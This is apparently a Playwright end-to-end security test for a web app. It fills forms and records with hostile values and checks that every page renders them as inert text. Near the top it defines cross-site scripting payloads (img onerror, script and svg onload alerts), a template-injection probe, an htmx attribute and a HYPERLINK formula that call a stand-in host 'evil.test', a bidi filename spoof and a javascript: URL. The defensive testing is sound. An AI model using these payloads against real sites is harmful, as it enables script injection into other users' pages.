"""Whatever people write, as a label or as a value, stays text in every place it is shown: no script runs, nothing is asked
of another origin, no page breaks."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

import pytest

from dougong.actions.create_record import create_record
from dougong.actions.create_tenant import create_tenant
from dougong.actions.installation import Installation
from dougong.actions.publish_module import publish_files
from dougong.app import create_app  # noqa: F401 - the house must be whole before anything is published
from dougong.kernel.actor import operator
from dougong.kernel.clock import FixedClock
from dougong.kernel.settings import Settings
from tests.e2e.conftest import Person, listen, serving

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser

PASSWORD = "correct horse"
BREAK = "\"'><img src=x onerror=alert(1)><script>alert(2)</script>{{7*7}}</textarea></title>"
SAID = BREAK.replace("{{7*7}}", "")  # where braces name a field
HTMX = '<b hx-get="http://evil.test/" hx-trigger="load">x</b>'
BIDI = "\u202egnp.exe\u202c\u0000"[:-1] + "<svg/onload=alert(3)>"
VALUES = (BREAK, HTMX, BIDI, '=HYPERLINK("http://evil.test")', "javascript:alert(4)")


def form() -> dict[str, Any]:
    """A form whose every word is hostile."""
    kinds = [BREAK[:20], HTMX[:30]]
    return {
        "name": "thing", "title": BREAK[:60], "kind": "document", "help": BREAK,
        "record": {"type": "object", "properties": {
            "name": {"type": "string", "title": BREAK[:60], "x-help": HTMX, "description": BREAK},
            "long": {"type": "string", "x-type": "long_text", "title": HTMX[:60]},
            "kind": {"type": "string", "enum": kinds, "title": BIDI},
            "tags": {"type": "array", "items": {"type": "string"}, "title": "tags"},
            "rich": {"type": "string", "x-type": "rich_text", "title": "rich"},
            "url": {"type": "string", "title": "url"},
            "other": {"type": "string", "x-ref": "evil.thing", "title": BREAK[:50]},
            "price": {"type": "number", "x-type": "money", "title": HTMX[:50]},
            BREAK[:50]: {"type": "string", "title": "name of a property"},
            "lines": {"type": "array", "title": BREAK[:50], "items": {"type": "object", "properties": {
                "what": {"type": "string", "title": HTMX[:50]}}}}}},
        "checks": [{"id": "odd", "rule": "price <> 13", "message": SAID + "{name}", "on": ["save"], "at": "price"}],
        "layout": [{"section": BREAK[:50], "columns": 2, "fields": ["name", "long", "kind", "tags", "rich", "url", "other",
                                                                    "price", BREAK[:50]]},
                   {"section": HTMX[:50], "fields": ["lines"]}],
        "views": [{"name": "all", "title": BREAK[:40], "columns": ["name", "long", "kind", "other", "price"],
                   "totals": {"price": "sum"}}],
        "prints": [{"name": "paper", "title": BREAK[:40], "blocks": [
            {"heading": SAID}, {"fields": ["name", "long", "other"]}, {"text": HTMX + " {{name}}"}, {"qr": "{{name}}"}]}],
    }  # fmt: skip


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[str]]]:
    """The address of a server whose admin has records with hostile values, and their ids."""
    inst = Installation.open(
        Settings(data=tmp_path_factory.mktemp("evil")), FixedClock(datetime(2026, 2, 27, 10, 0, tzinfo=UTC))
    )
    create_tenant(inst, "demo", title=BREAK[:60], admin="admin@demo.test", password=PASSWORD)
    published = publish_files(
        inst, operator("demo"), "evil",
        {"module.json": {"name": "evil", "title": HTMX[:60], "menu": [{"title": BREAK[:40], "items": ["thing"]}]},
         "forms/thing.json": form()},
    )  # fmt: skip
    assert published is not None
    ids: list[str] = []
    for value in VALUES:
        values = {
            "name": value, "long": value, "kind": form()["record"]["properties"]["kind"]["enum"][0], "tags": [value[:20]],
            "rich": f"<p>{value}</p>", "url": value, BREAK[:50]: value, "lines": [{"what": value}],
            **({"other": ids[-1]} if ids else {}),
        }  # fmt: skip
        ids.append(str(create_record(inst, operator("demo"), "evil.thing", values)["id"]))
    with serving(inst) as address:
        yield address, ids
    inst.close()


@pytest.fixture
def admin(browser: Browser, place: tuple[str, list[str]]) -> Iterator[Person]:
    context = browser.new_context(viewport={"width": 1280, "height": 800}, locale="zh-CN")
    person = Person(context.new_page(), place[0])
    listen(person)
    person.page.on("dialog", lambda said: (person.complaints.append(f"a script ran: {said.message}"), said.dismiss()))
    person.go("/login")
    person.page.locator("[name=account]").fill("admin@demo.test")
    person.page.locator("[name=password]").fill(PASSWORD)
    person.page.keyboard.press("Enter")
    person.page.wait_for_url(place[0] + "/")
    yield person
    context.close()


def test_no_place_takes_a_text_for_more_than_a_text(admin: Person, place: tuple[str, list[str]]) -> None:
    at = "/f/evil.thing"
    pages = ["/", "/apps", "/me", "/notices", "/find?q=img", at, f"{at}?panel=filter", f"{at}?panel=columns",
             f"{at}?group=kind", f"{at}?kind=board", f"{at}?q=<img", f"{at}/export", f"{at}/import", f"{at}/bin",
             f"{at}/many", "/admin", "/admin/audit", "/admin/modules", "/admin/roles", "/admin/usage"]  # fmt: skip
    for record in place[1]:
        pages += [f"{at}/{record}", f"{at}/{record}/history", f"{at}/{record}/edit", f"{at}/{record}/print/paper",
                  f"{at}/new?copy={record}"]  # fmt: skip
    for address in pages:
        answer = admin.page.goto(place[0] + address)
        assert answer is not None
        assert answer.status == 200, address
        admin.page.wait_for_timeout(60)
        assert admin.page.locator("img[src=x], svg[onload], [hx-get^='http']").count() == 0, address
    assert admin.complaints == []


def test_what_is_typed_and_refused_stays_text(admin: Person) -> None:
    admin.go("/f/evil.thing/new")
    admin.page.locator("[name=name]").fill(BREAK)
    admin.page.locator("[name=price]").fill("13")
    admin.page.locator("[data-key=submit], [data-key=save]").last.click()
    admin.page.locator(".errtext").first.wait_for()
    admin.settle()
    assert admin.page.locator("[name=name]").input_value() == BREAK
    assert admin.page.locator("img[src=x]").count() == 0
    assert admin.complaints == []
